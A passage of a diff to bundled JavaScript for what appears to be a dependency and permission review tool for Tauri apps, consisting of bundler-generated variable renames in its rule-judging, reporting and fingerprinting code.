   const more = cause === "links-added" ? [each.links] : cause === "install-script-added" ? [each.runs] : [];
   return JSON.stringify([cause, each.ecosystem, names2, ...bytes, ...more]);
@@ -30945,12 +32700,12 @@ function judge(app, changes, base, head) {
   return { findings, narrowings: narrowings2, gaps: gaps2 };
 }
 function findingOf(app, change) {
-  for (const rule29 of rules) {
-    const judgement = rule29.judge(change);
+  for (const rule54 of rules) {
+    const judgement = rule54.judge(change);
     if (judgement === void 0) continue;
     const { at, subject, action, witness, base, head, identity } = change;
     return {
-      rule: rule29.id,
+      rule: rule54.id,
       ...judgement,
       app,
       ...at,
@@ -31071,11 +32826,11 @@ function hidesSome({ gaps: gaps2 }) {
   return gaps2.some(({ kind }) => kind === "unparsed" || kind === "unreadable" || kind === "truncated");
 }
 function settled(before, after) {
-  const known = new Set(before.gaps.flatMap(({ rests }) => rests ?? []));
+  const known2 = new Set(before.gaps.flatMap(({ rests }) => rests ?? []));
   const still = new Set(restingGrants(after));
   if (!restingGrants(before).every((grant) => still.has(grant))) return after.gaps;
   return after.gaps.map(
-    (gap) => gap.rests !== void 0 && known.has(gap.rests) ? { ...gap, blocking: false } : gap
+    (gap) => gap.rests !== void 0 && known2.has(gap.rests) ? { ...gap, blocking: false } : gap
   );
 }
 function restingGrants({ grants }) {
@@ -31121,9 +32876,9 @@ async function reviewTrees({
   const apps = files.touched.flatMap((pair) => appUnderReview(pair, files.base, files.head.files) ?? []);
   const needs = apps.flatMap(needsOf);
   if (needs.length > 0) progress(`Looking up ${needs.length} packages`);
-  const known = await facts.fetch(needs);
+  const known2 = await facts.fetch(needs);
   progress("Comparing");
-  const judged = apps.map((app) => reviewApp(app, known));
+  const judged = apps.map((app) => reviewApp(app, known2));
   const found2 = once(judged.flatMap((each) => each.findings)).sort(comparePlaces);
   const { findings, turnedOff } = applyPolicy(found2, policy);
   const gaps2 = once([
@@ -31144,7 +32899,7 @@ async function reviewTrees({
     turnedOff,
     narrowings: once(judged.flatMap((each) => each.narrowings)).sort(comparePlaces),
     gaps: gaps2,
-    facts: known.used()
+    facts: known2.used()
   };
 }
 async function findApps(base, head, before, after) {
@@ -31266,7 +33021,7 @@ function verdictInWords({ verdict, findings, gaps: gaps2 }) {
 }
 function turnedOffInWords({ turnedOff }) {
   if (turnedOff.length === 0) return "";
-  const each = turnedOff.map(({ rule: rule29, findings }) => `${counted3(findings, "finding")} of ${code(rule29)}`);
+  const each = turnedOff.map(({ rule: rule54, findings }) => `${counted3(findings, "finding")} of ${code(rule54)}`);
   return `Turned off by this repository's policy, and not judged: ${listInWords(each)}.`;
 }
 function countsInWords(findings) {
@@ -31299,8 +33054,8 @@ function confidenceInWords({ confidence }) {
   return { certain: "", likely: "likely, not certain", possible: "possible, not certain" }[confidence];
 }
 function revisionInWords({ rev, sha }) {
-  const short = sha?.slice(0, 7);
-  return short === void 0 || short === rev ? code(rev) : `${code(rev)} (${code(short)})`;
+  const short2 = sha?.slice(0, 7);
+  return short2 === void 0 || short2 === rev ? code(rev) : `${code(rev)} (${code(short2)})`;
 }
 function appInWords({ root, name, tauri }) {
   return `${code(name)} in ${code(root === "" ? "." : root)}${tauri === null ? "" : `, Tauri ${code(tauri)}`}`;
@@ -31403,11 +33158,11 @@ function details(findings) {
   return [...shown2, ...more].join("\n\n");
 }
 function detail(finding) {
-  const { severity, title, witness, base, head, message, remedy, rule: rule29, confidence } = finding;
+  const { severity, title, witness, base, head, message, remedy, rule: rule54, confidence } = finding;
   const sure = confidence === "certain" ? "" : ` (${confidenceInWords(finding)})`;
   return [
     `### ${severity}: ${sentence(title, 300)}`,
-    `${codeSpan(placeInWords(finding))} · ${codeSpan(rule29)}${sure}`,
+    `${codeSpan(placeInWords(finding))} · ${codeSpan(rule54)}${sure}`,
     `**Witness:** ${sentence(witnessLead(witness))}:`,
     codeBlock(witness.text, witness.kind === "invoke" ? "js" : "text"),
     `- **Before:** ${sentence(base)}
@@ -31453,8 +33208,8 @@ var SEVERITY_WORDS = {
 
 // src/review/fingerprint.ts
 import { createHash as createHash2 } from "node:crypto";
-function fingerprintOf({ rule: rule29, app, key }) {
-  return createHash2("sha256").update(JSON.stringify([rule29, app, key])).digest("hex").slice(0, 32);
+function fingerprintOf({ rule: rule54, app, key }) {
+  return createHash2("sha256").update(JSON.stringify([rule54, app, key])).digest("hex").slice(0, 32);
 }
 function identified(findings) {
   const seen = /* @__PURE__ */ new Map();
